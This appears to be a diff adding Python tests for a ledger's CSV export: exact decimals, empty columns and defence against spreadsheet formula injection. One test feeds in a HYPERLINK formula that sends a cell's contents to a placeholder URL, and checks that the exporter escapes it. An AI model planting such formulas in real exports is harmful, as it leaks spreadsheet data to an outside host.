@@ -1,0 +1,75 @@
+"""The ledger as CSV: exact, one line each, and harmless in a spreadsheet."""
+
+import csv
+import io
+from decimal import Decimal
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from receipts.exact_decimal import exact_decimal
+from receipts.ledger_csv import COLUMNS, csv_header, csv_lines
+from receipts.ledger_reader import LedgerLine
+
+LINE = {
+    "created_unix_ns": 1_782_219_834_000_123_456,
+    "transaction_id": "rcpt_" + "0" * 32,
+    "kind": "receipt",
+    "receipt_id": "rcpt_" + "0" * 32,
+    "model": "small",
+    "region": "local",
+    "customer_tag": None,
+    "microjoules": 310_000,
+    "usd_picos": -43_056,
+    "balance_usd_picos": 4_999_999_956_944,
+}
+
+
+def rows(*lines: LedgerLine) -> list[dict[str, str]]:
+    text = (csv_header() + csv_lines(lines)).decode()
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_a_line_reads_as_it_should() -> None:
+    (row,) = rows(LedgerLine(**LINE))
+    assert row == {
+        "time": "2026-06-23T13:03:54.000123456Z",
+        "transaction": LINE["transaction_id"],
+        "kind": "receipt",
+        "receipt_id": LINE["receipt_id"],
+        "model": "small",
+        "region": "local",
+        "customer_tag": "",
+        "joules": "0.310000",
+        "usd": "-0.000000043056",
+        "balance_usd": "4.999999956944",
+    }
+    assert tuple(row) == COLUMNS
+
+
+def test_where_there_is_no_receipt_its_columns_are_empty() -> None:
+    none = {"receipt_id": None, "model": None, "region": None, "kind": "opening-credit"}
+    (row,) = rows(LedgerLine(**{**LINE, **none}))
+    assert [row[name] for name in ("receipt_id", "model", "region", "customer_tag")] == [""] * 4
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
+def test_no_tag_is_a_formula(start: str) -> None:
+    tag = f'{start}HYPERLINK("http://example.com/?"&A1,"x")'
+    (row,) = rows(LedgerLine(**{**LINE, "customer_tag": tag, "model": tag, "region": tag}))
+    assert row["customer_tag"] == row["model"] == row["region"] == f"'{tag}"
+
+
+@given(st.text(st.characters(min_codepoint=32, max_codepoint=126), min_size=1))
+def test_any_tag_that_the_door_takes_is_read_back(tag: str) -> None:
+    (row,) = rows(LedgerLine(**{**LINE, "customer_tag": tag}))
+    assert row["customer_tag"] in (tag, f"'{tag}")
+    assert row["customer_tag"][0] not in "=+-@"
+
+
+@given(st.integers(-(2**80), 2**80), st.sampled_from([6, 12]))
+def test_decimals_are_exact(count: int, digits: int) -> None:
+    written = exact_decimal(count, digits)
+    assert Decimal(written).scaleb(digits) == count
+    assert len(written.partition(".")[2]) == digits
